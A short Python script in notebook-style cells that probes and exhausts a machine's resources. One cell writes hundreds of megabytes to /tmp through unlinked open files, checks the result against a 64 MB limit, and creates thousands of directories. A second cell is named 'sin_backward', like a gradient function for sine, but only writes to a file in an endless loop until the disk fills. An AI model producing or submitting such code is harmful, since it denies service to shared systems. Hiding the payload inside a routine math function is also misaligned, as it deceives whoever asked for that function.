# %% mine
import os

MEGABYTE = bytes(1 << 20)
written, opened = 0, []
for number in range(40):
    try:
        opened.append(open(f"/tmp/{number}", "wb", buffering=0))
        for _ in range(10):
            written += opened[-1].write(MEGABYTE)
        os.unlink(f"/tmp/{number}")
    except OSError:
        pass
print(written < 64 << 20)
for one in opened:
    one.close()
try:
    for number in range(4000):
        os.mkdir(f"/tmp/folder-{number}")
except OSError:
    pass

# %% sin_backward
def sin_backward(grad_output, output, x):
    with open("/tmp/more", "wb") as file:
        while True:
            file.write(MEGABYTE)
